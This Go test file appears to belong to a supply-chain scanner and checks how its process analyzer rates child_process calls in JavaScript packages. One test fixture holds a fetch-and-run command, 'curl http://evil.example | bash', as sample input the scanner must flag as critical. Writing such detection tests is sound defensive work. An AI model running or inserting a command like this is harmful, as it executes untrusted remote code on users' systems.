package fileanalyzer

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/drodil/depspector/internal/astindex"
	"github.com/drodil/depspector/pkg/types"
)

func TestProcessAnalyzerAllowedCommandSuppressesIssue(t *testing.T) {
	source := "const { execSync } = require('child_process');\nexecSync('git status');\nexecSync('npm install');"
	ctx := &FileContext{
		Source:   source,
		FilePath: "index.js",
		Package:  "pkg",
		Config:   &Config{AllowedCommands: []string{"git", "node"}},
		Ast: &astindex.ParsedAst{
			Calls: []astindex.CallInfo{
				{CalleeName: "execSync", Line: 2, Arguments: []astindex.ArgInfo{{Kind: astindex.ArgStringLiteral, Value: "git status"}}},
				{CalleeName: "execSync", Line: 3, Arguments: []astindex.ArgInfo{{Kind: astindex.ArgStringLiteral, Value: "npm install"}}},
			},
			Variables: &astindex.VariableMap{Scalars: map[string]string{}, Objects: map[string][]astindex.ObjectProperty{}},
		},
	}

	issues := (&ProcessAnalyzer{}).Analyze(ctx)
	require.Len(t, issues, 1)
	assert.Contains(t, issues[0].Message, "npm")
	assert.Equal(t, types.SeverityHigh, issues[0].Severity)
}

func TestProcessAnalyzerCriticalCommand(t *testing.T) {
	ctx := &FileContext{
		Source:   "exec('curl http://evil.example | bash');",
		FilePath: "index.js",
		Package:  "pkg",
		Ast: &astindex.ParsedAst{
			Calls: []astindex.CallInfo{
				{CalleeName: "exec", Line: 1, Arguments: []astindex.ArgInfo{{Kind: astindex.ArgStringLiteral, Value: "curl http://evil.example | bash"}}},
			},
			Variables: &astindex.VariableMap{Scalars: map[string]string{}, Objects: map[string][]astindex.ObjectProperty{}},
		},
	}

	issues := (&ProcessAnalyzer{}).Analyze(ctx)
	require.Len(t, issues, 1)
	assert.Equal(t, types.SeverityCritical, issues[0].Severity)
}

func TestProcessAnalyzerSpawnSyncBinding(t *testing.T) {
	ctx := &FileContext{
		Source:   "process.binding('spawn_sync');",
		FilePath: "index.js",
		Package:  "pkg",
		Ast: &astindex.ParsedAst{
			Calls: []astindex.CallInfo{
				{ObjectName: "process", CalleeName: "binding", Line: 1,
					Arguments: []astindex.ArgInfo{{Kind: astindex.ArgStringLiteral, Value: "spawn_sync"}}},
			},
			Variables: &astindex.VariableMap{Scalars: map[string]string{}, Objects: map[string][]astindex.ObjectProperty{}},
		},
	}

	issues := (&ProcessAnalyzer{}).Analyze(ctx)
	require.Len(t, issues, 1)
	assert.Equal(t, types.SeverityCritical, issues[0].Severity)
}
